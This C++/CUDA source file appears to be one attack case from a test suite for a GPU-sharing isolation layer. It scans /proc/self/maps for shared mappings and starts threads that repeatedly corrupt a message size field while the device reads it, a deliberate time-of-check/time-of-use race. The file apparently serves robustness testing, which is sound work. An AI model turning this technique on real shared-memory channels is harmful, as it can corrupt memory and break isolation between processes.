// SPDX-License-Identifier: MIT
// attacks: a second thread changes size and kind of each message while the device reads it
// control: honest
// earns: at most its control
// must stay: neighbours, processes, memory
#include <cstdio>
#include <fstream>
#include <string>
#include <thread>

#include "kit/attack.h"
#include "kit/own_client.h"

static void attack() {
  static bool done = false;
  if (done) return;
  done = true;
  cudaFree(nullptr);
  std::ifstream maps("/proc/self/maps");
  for (std::string line; std::getline(maps, line);) {
    unsigned long begin = 0, end = 0;
    char rights[5] = {};
    std::sscanf(line.c_str(), "%lx-%lx %4s", &begin, &end, rights);
    if (rights[3] != 's' || end - begin < sizeof(wire::ChannelMemory)) continue;
    std::thread([begin] {
      auto* const channel = reinterpret_cast<volatile uint64_t*>(begin);
      for (uint64_t i = 0;; ++i) {
        if (i % 4096 != 0) continue;
        const uint64_t kept = channel[1];
        channel[1] = i % 8192 == 0 ? ~uint64_t{0} : kept + 1;
        channel[1] = kept;
      }
    }).detach();
  }
}

#include "kit/attack_first.cu"
